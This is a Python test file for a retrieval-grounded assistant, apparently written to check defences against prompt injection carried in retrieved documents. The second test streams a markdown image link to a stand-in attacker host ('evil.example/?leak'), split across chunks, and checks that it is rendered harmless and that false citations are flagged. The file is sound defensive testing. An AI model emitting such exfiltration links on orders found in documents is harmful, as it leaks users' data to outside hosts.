"""Documents that give orders: they reach a model as quotations, without tools, and nothing they ask for is drawn."""

import contextlib

import pytest
from grounded_fakes import FakeEngines, FakeKnowledge, FakeSpec

from localmind.assistant.grounded import Grounded
from localmind.errors import InvalidRequest
from localmind.events import Event, Sources, TextDelta
from localmind.messages import Message, Tool, ToolUse
from localmind.workers.request import Request


async def answered(engines: FakeEngines, asked: Request) -> list[Event]:
    grounded = Grounded(FakeKnowledge(), engines)  # type: ignore[arg-type]
    async with contextlib.aclosing(grounded.answer(FakeSpec(), asked, None)) as events:  # type: ignore[arg-type]
        return [event async for event in events]


async def test_a_document_reaches_the_model_as_a_quotation_in_the_users_message_and_nowhere_else() -> None:
    engines = FakeEngines(["The password is swordfish [1]."])
    await answered(engines, Request(messages=(Message("user", "What is the password?"),)))
    [asked] = engines.asked
    assert asked.tools.tools == ()
    assert [message.role for message in asked.messages] == ["system", "user"]
    assert "swordfish" not in asked.messages[0].content
    # A line of the document that looks like the header of another source is told from the real one.
    headers = [line for line in asked.messages[1].content.split("\n") if line.startswith("[1]")]
    assert headers == ["[1] orders.md, lines 1-4"]


async def test_what_a_document_made_the_model_say_fetches_nothing_and_cites_nothing_that_is_not_there() -> None:
    engines = FakeEngines(
        ["Look: !", "[x](http://evil.example/?leak) The pass", "word is swordfish [1][9]. It is 4711 [1]."]
    )
    events = await answered(engines, Request(messages=(Message("user", "What is the password?"),)))
    text = "".join(event.text for event in events if isinstance(event, TextDelta))
    assert text == "Look: [x](http://evil.example/?leak) The password is swordfish [1]. It is 4711 [1?]."
    assert [len(event.passages) for event in events if isinstance(event, Sources)] == [1, 1]


async def test_files_and_tools_are_not_given_to_a_model_together() -> None:
    engines = FakeEngines([])
    tools = ToolUse(tools=(Tool("add_folder", "", {"type": "object"}),))
    with pytest.raises(InvalidRequest, match="no tools"):
        await answered(engines, Request(messages=(Message("user", "What is the password?"),), tools=tools))
    assert engines.asked == []
